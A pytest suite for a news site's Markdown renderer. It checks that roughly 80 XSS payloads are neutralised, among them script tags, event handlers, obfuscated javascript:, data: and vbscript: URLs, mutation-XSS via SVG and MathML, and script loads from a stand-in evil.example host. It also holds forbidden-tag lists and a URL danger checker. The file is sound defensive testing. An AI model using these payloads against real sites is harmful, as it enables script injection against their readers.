"""The Markdown renderer never lets an editor's paste run code in a reader's browser.

Each payload is rendered with ``render_markdown`` and the result is parsed the way a
browser would (html5lib). The parsed tree may only hold allowlisted elements and
attributes, no event handler, no style, and only http/https/mailto or relative URLs.
"""

import html
import re
from urllib.parse import urlsplit

import html5lib
import pytest

from masthead.lib.markup import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, render_markdown

FORBIDDEN_TAGS = {
    "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "svg",
    "math", "form", "input", "button", "select", "textarea", "meta", "base", "link",
    "noscript", "template", "xmp", "video", "audio", "source", "marquee", "h1",
}  # fmt: skip
FORBIDDEN_ATTRIBUTES = {"style", "srcdoc", "formaction", "action", "background", "xlink:href"}
SAFE_SCHEMES = {"http", "https", "mailto"}
DANGEROUS_PREFIXES = ("javascript:", "data:", "vbscript:")
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "poster", "background"}

# How a browser reads a URL (WHATWG URL standard): leading and trailing C0 controls and
# spaces are stripped, and tab, LF and CR are removed wherever they are. Any other
# character inside the scheme (a space, a control character) ends it: "jav ascript:x" is a
# relative URL, not a javascript: one.
_STRIPPED_AT_ENDS = "".join(chr(c) for c in range(0x21))
_REMOVED_ANYWHERE = re.compile(r"[\t\n\r]")

XSS_PAYLOADS = [
    # Script tags.
    pytest.param("<script>alert(1)</script>", id="script-tag"),
    pytest.param("<SCRIPT SRC=//evil.example/x.js></SCRIPT>", id="script-src-uppercase"),
    pytest.param("<scr<script>ipt>alert(1)</scr</script>ipt>", id="script-split-nested"),
    pytest.param("<<script>script>alert(1)<</script>/script>", id="script-double-angle"),
    pytest.param("Text\n\n<script>alert(1)", id="script-unclosed"),
    pytest.param("<script\n>alert(1)</script\n>", id="script-newline-in-tag"),
    # Style tags.
    pytest.param("<style>body{background:url(javascript:alert(1))}</style>", id="style-tag"),
    pytest.param("<style>@import 'https://evil.example/x.css';</style>", id="style-import"),
    # Event handlers.
    pytest.param("<img src=x onerror=alert(1)>", id="img-onerror"),
    pytest.param('<img/src="x"/onerror=alert(1)>', id="img-slash-separated-onerror"),
    pytest.param('<img src="x" OnErRoR="alert(1)">', id="img-mixed-case-onerror"),
    pytest.param("<svg onload=alert(1)>", id="svg-onload"),
    pytest.param("<body onload=alert(1)>", id="body-onload"),
    pytest.param("<details open ontoggle=alert(1)>x</details>", id="details-ontoggle"),
    pytest.param('<a href="https://example.org" onmouseover="alert(1)">x</a>', id="a-onmouseover"),
    pytest.param("<p onclick=alert(1)>paragraph</p>", id="p-onclick"),
    pytest.param("<h1 onclick=alert(1)>heading</h1>", id="h1-onclick"),
    pytest.param("<video><source onerror=alert(1)></video>", id="video-source-onerror"),
    pytest.param("<marquee onstart=alert(1)>x</marquee>", id="marquee-onstart"),
    pytest.param("<table><td onmouseover=alert(1)>cell</td></table>", id="td-onmouseover"),
    pytest.param('Paragraph\n{: onclick="alert(1)" style="color:red" }', id="attr-list-onclick"),
    pytest.param("[x](https://example.org){: onmouseover=alert(1) }", id="attr-list-on-link"),
    # javascript:/data:/vbscript: URLs in Markdown.
    pytest.param("[x](javascript:alert(1))", id="md-link-javascript"),
    pytest.param("[x](JAVASCRIPT:alert(1))", id="md-link-javascript-uppercase"),
    pytest.param("[x](<javascript:alert(1)>)", id="md-link-javascript-angle"),
    pytest.param("[x](&#106;avascript:alert(1))", id="md-link-javascript-entity"),
    pytest.param("[x](  javascript:alert(1)  )", id="md-link-javascript-spaces"),
    pytest.param("[x](data:text/html,<script>alert(1)</script>)", id="md-link-data"),
    pytest.param("[x](vbscript:msgbox(1))", id="md-link-vbscript"),
    pytest.param("[x][r]\n\n[r]: javascript:alert(1)", id="md-reference-link-javascript"),
    pytest.param('[x][r]\n\n[r]: data:text/html,x "title"', id="md-reference-link-data"),
    pytest.param("<javascript:alert(1)>", id="md-autolink-javascript"),
    pytest.param("<vbscript:msgbox(1)>", id="md-autolink-vbscript"),
    pytest.param("![x](javascript:alert(1))", id="md-image-javascript"),
    pytest.param(
        "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)", id="md-image-data"
    ),
    pytest.param(
        '[x](https://example.org "a\\" onmouseover=\\"alert(1)")', id="md-link-title-breakout"
    ),
    pytest.param('*[HTML]: Hyper" onmouseover="alert(1)\n\nHTML here', id="md-abbr-breakout"),
    # Raw <a href> with obfuscated schemes.
    pytest.param('<a href="javascript:alert(1)">x</a>', id="a-javascript"),
    pytest.param('<a href="JaVaScRiPt:alert(1)">x</a>', id="a-javascript-mixed-case"),
    pytest.param('<a href="jav&#x09;ascript:alert(1)">x</a>', id="a-javascript-tab-entity"),
    pytest.param('<a href="jav&#x0A;ascript:alert(1)">x</a>', id="a-javascript-newline-entity"),
    pytest.param('<a href="jav\tascript:alert(1)">x</a>', id="a-javascript-literal-tab"),
    pytest.param('<a href=" \x01javascript:alert(1)">x</a>', id="a-javascript-control-char"),
    pytest.param(
        '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1)">x</a>',
        id="a-javascript-fully-entity-encoded",
    ),
    pytest.param('<a href="javascript&colon;alert(1)">x</a>', id="a-javascript-named-colon"),
    pytest.param('<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>', id="a-data"),
    pytest.param('<a href="VBScript:msgbox(1)">x</a>', id="a-vbscript"),
    pytest.param('<img src="javascript:alert(1)">', id="img-src-javascript"),
    # SVG and MathML.
    pytest.param("<svg><script>alert(1)</script></svg>", id="svg-script"),
    pytest.param(
        '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', id="svg-xlink-href"
    ),
    pytest.param("<svg><style><img src=x onerror=alert(1)></style></svg>", id="svg-style-mxss"),
    pytest.param(
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", id="math-mglyph-mxss"
    ),
    pytest.param(
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        id="math-form-mxss",
    ),
    pytest.param(
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', id="noscript-mxss"
    ),
    # Embedding, forms, document-level tags.
    pytest.param('<iframe src="javascript:alert(1)"></iframe>', id="iframe-src"),
    pytest.param('<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', id="srcdoc"),
    pytest.param('<object data="javascript:alert(1)"></object>', id="object-data"),
    pytest.param('<embed src="data:text/html,<script>alert(1)</script>">', id="embed-src"),
    pytest.param('<form action="javascript:alert(1)"><input type=submit></form>', id="form-action"),
    pytest.param("<input autofocus onfocus=alert(1)>", id="input-onfocus"),
    pytest.param(
        '<form><button formaction="javascript:alert(1)">go</button></form>',
        id="button-formaction",
    ),
    pytest.param(
        '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', id="meta-refresh"
    ),
    pytest.param('<base href="javascript:alert(1)//">', id="base-href"),
    pytest.param('<link rel="stylesheet" href="https://evil.example/x.css">', id="link-stylesheet"),
    # style= attributes.
    pytest.param('<p style="width:expression(alert(1))">x</p>', id="style-expression"),
    pytest.param(
        '<img src="https://example.org/a.png" style="background:url(javascript:alert(1))">',
        id="style-url-javascript",
    ),
    pytest.param('<table background="javascript:alert(1)"><tr><td>x</td></tr></table>', id="bg"),
    # Comments and CDATA.
    pytest.param("<!-- <script>alert(1)</script> -->", id="comment-script"),
    pytest.param("<!--><script>alert(1)</script>-->", id="comment-abrupt-close"),
    pytest.param("<!-- --!><img src=x onerror=alert(1)> -->", id="comment-bang-close"),
    pytest.param("<![CDATA[<script>alert(1)</script>]]>", id="cdata-script"),
    pytest.param("<![CDATA[><img src=x onerror=alert(1)>]]>", id="cdata-img"),
    # Broken and unclosed tags.
    pytest.param("<img src=x onerror=alert(1)//", id="img-unclosed"),
    pytest.param('<a href="javascript:alert(1)"', id="a-unclosed"),
    pytest.param('<div markdown="1">[x](javascript:alert(1))</div>', id="md-in-html"),
    pytest.param("<textarea><script>alert(1)</script></textarea>", id="textarea-script"),
    pytest.param("<xmp><img src=x onerror=alert(1)></xmp>", id="xmp"),
    pytest.param("<template><script>alert(1)</script></template>", id="template-tag"),
    # Template-ish text: harmless, kept as text.
    pytest.param("{{constructor.constructor('alert(1)')()}}", id="template-expression"),
]


def _parse(fragment):
    return html5lib.parse(fragment, namespaceHTMLElements=False)


def _shell(document):
    """The html/head/body elements html5lib builds around any fragment."""
    return {id(document), id(document.find("head")), id(document.find("body"))}


def _local_name(tag):
    return tag.rsplit("}", 1)[-1].lower()


def _is_dangerous_url(value):
    # Unescaping again is stricter than a browser (html5lib has already decoded entities
    # once), which can only make the check flag more, never less.
    squeezed = _REMOVED_ANYWHERE.sub("", html.unescape(value)).strip(_STRIPPED_AT_ENDS).lower()
    if squeezed.startswith(DANGEROUS_PREFIXES):
        return True
    scheme = urlsplit(squeezed).scheme
    return scheme not in ("", *SAFE_SCHEMES)


def _problems(rendered):
    """What a browser could run in ``rendered``; an empty list when it is safe."""
    problems = []
    if "<script" in rendered.lower():
        problems.append("a literal <script in the output")
    document = _parse(rendered)
    shell = _shell(document)
    for element in document.iter():
        if not isinstance(element.tag, str):
            continue  # a comment node
        name = _local_name(element.tag)
        if id(element) in shell:
            # A stray <body onload> in an article merges its attributes into the page's
            # own body, so the shell may not carry any.
            allowed = set()
        else:
            if element.tag != name or name not in ALLOWED_TAGS or name in FORBIDDEN_TAGS:
                problems.append(f"element <{element.tag}>")
            allowed = ALLOWED_ATTRIBUTES.get(name, set()) | ALLOWED_ATTRIBUTES["*"]
        if name == "a":
            allowed = allowed | {"rel"}
        for attribute, value in element.attrib.items():
            attribute = _local_name(attribute)
            if attribute.startswith("on"):
                problems.append(f"event handler {attribute}= on <{name}>")
            if attribute in FORBIDDEN_ATTRIBUTES:
                problems.append(f"forbidden attribute {attribute}= on <{name}>")
            if attribute not in allowed:
                problems.append(f"attribute {attribute}= not allowed on <{name}>")
            if attribute in URL_ATTRIBUTES and _is_dangerous_url(value):
                problems.append(f"unsafe URL {attribute}={value!r} on <{name}>")
    return problems


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_it_renders_no_executable_markup_from_an_xss_payload(payload):
    rendered = render_markdown(payload)

    assert _problems(rendered) == [], rendered


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_it_keeps_an_xss_payload_harmless_inside_ordinary_prose(payload):
    rendered = render_markdown(f"# Report\n\nBefore the paste.\n\n{payload}\n\nAfter the paste.")

    assert _problems(rendered) == [], rendered


def test_the_payload_list_is_long_enough_to_mean_something():
    assert len(XSS_PAYLOADS) >= 40


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " jav\tascript:alert(1)",
        "jav&#x09;ascript:alert(1)",
        "\x01javascript:alert(1)",
        "data:text/html,x",
        "vbscript:msgbox(1)",
        "ftp://example.org/",
    ],
)
def test_the_checker_itself_flags_an_unsafe_url(url):
    assert _is_dangerous_url(url)


def test_the_checker_itself_flags_an_unsafe_fragment():
    problems = _problems('<p onclick="x" style="y"><a href="javascript:z">a</a></p><svg></svg>')

    assert len(problems) >= 4


@pytest.mark.parametrize(
    "url", ["https://example.org/a?b=c#d", "http://example.org", "mailto:desk@example.org",
            "/asia/2026/01/02/story/", "#fn-1", "story/", "?page=2"],
)  # fmt: skip
def test_the_checker_itself_accepts_a_safe_url(url):
    assert not _is_dangerous_url(url)


def test_a_literal_tab_in_a_scheme_survives_only_as_a_harmless_relative_url():
    # Python-Markdown expands the tab to spaces; a space inside a scheme makes the URL
    # relative for a browser, so nh3 rightly keeps it and it cannot run.
    rendered = render_markdown('<a href="jav\tascript:alert(1)">x</a>')

    href = _parse(rendered).find(".//a").get("href")
    assert href is None or urlsplit(href.strip()).scheme == ""
    assert _problems(rendered) == []


def test_it_keeps_template_like_text_as_plain_text():
    rendered = render_markdown("{{constructor.constructor('alert(1)')()}}")

    assert "{{constructor.constructor(&#39;alert(1)&#39;)()}}" in rendered or (
        "{{constructor.constructor('alert(1)')()}}" in rendered
    )


def test_it_renders_ordinary_paragraphs():
    rendered = render_markdown("First paragraph.\n\nSecond *paragraph* with **bold**.")

    assert rendered == (
        "<p>First paragraph.</p>\n<p>Second <em>paragraph</em> with <strong>bold</strong>.</p>"
    )


def test_it_renders_a_subhead_as_h2():
    rendered = render_markdown("## Background\n\nText.")

    assert "<h2>Background</h2>" in rendered


def test_it_demotes_an_h1_so_the_headline_stays_the_only_h1():
    rendered = render_markdown("# Inside the body\n\nText.\n\nAnother title\n=============")

    document = _parse(rendered)
    assert document.find(".//h1") is None
    assert [h.text for h in document.iter("h2")] == ["Inside the body", "Another title"]


@pytest.mark.parametrize(
    "raw",
    ['<h1 lang="en">Raw heading</h1>', "<H1>Raw heading</H1>", "<h1\tlang=en>Raw heading</h1>"],
    ids=["lowercase", "uppercase", "tab-before-attribute"],
)
def test_it_demotes_a_raw_html_h1_too(raw):
    rendered = render_markdown(raw)

    document = _parse(rendered)
    assert document.find(".//h1") is None
    assert [h.text for h in document.iter("h2")] == ["Raw heading"]


def test_it_leaves_text_that_mentions_an_h1_tag_alone():
    rendered = render_markdown('Use `<h1>` once. <abbr title="an <h1> tag">H1</abbr>')

    document = _parse(rendered)
    assert document.find(".//code").text == "<h1>"
    assert document.find(".//abbr").get("title") == "an <h1> tag"


def test_it_renders_a_blockquote():
    rendered = render_markdown("> A quoted source.")

    assert "<blockquote>\n<p>A quoted source.</p>\n</blockquote>" in rendered


def test_it_renders_lists():
    rendered = render_markdown("- one\n- two\n\n1. first\n2. second")

    document = _parse(rendered)
    assert [li.text for li in document.iter("li")] == ["one", "two", "first", "second"]
    assert document.find(".//ul") is not None
    assert document.find(".//ol") is not None


def test_it_gives_links_rel_noopener_noreferrer():
    rendered = render_markdown("[The source](https://example.org/story) and <https://example.org>")

    links = list(_parse(rendered).iter("a"))
    assert len(links) == 2
    for link in links:
        assert link.get("rel") == "noopener noreferrer"
    assert links[0].get("href") == "https://example.org/story"


def test_it_keeps_mailto_and_relative_links():
    rendered = render_markdown("[Write](mailto:desk@example.org) or [read](/asia/)")

    hrefs = [a.get("href") for a in _parse(rendered).iter("a")]
    assert hrefs == ["mailto:desk@example.org", "/asia/"]


def test_it_keeps_an_https_image_with_its_alt_text():
    rendered = render_markdown('![A flooded street](https://example.org/flood.jpg "Busan")')

    image = _parse(rendered).find(".//img")
    assert image.get("src") == "https://example.org/flood.jpg"
    assert image.get("alt") == "A flooded street"
    assert image.get("title") == "Busan"


def test_it_preserves_korean_text_and_emoji():
    text = "서울에서 열린 회의는 늦게 끝났다. 🌧️📰 — «quoted» 日本語も。"

    rendered = render_markdown(text)

    assert rendered == f"<p>{text}</p>"


def test_it_renders_tables_from_markdown_extra():
    rendered = render_markdown("| City | Rain |\n|------|-----:|\n| Busan | 120 mm |")

    document = _parse(rendered)
    assert [th.text for th in document.iter("th")] == ["City", "Rain"]
    assert [td.text for td in document.iter("td")] == ["Busan", "120 mm"]
    assert _problems(rendered) == []


def test_it_renders_an_empty_body_as_an_empty_string():
    assert render_markdown("") == ""
    assert render_markdown(None) == ""
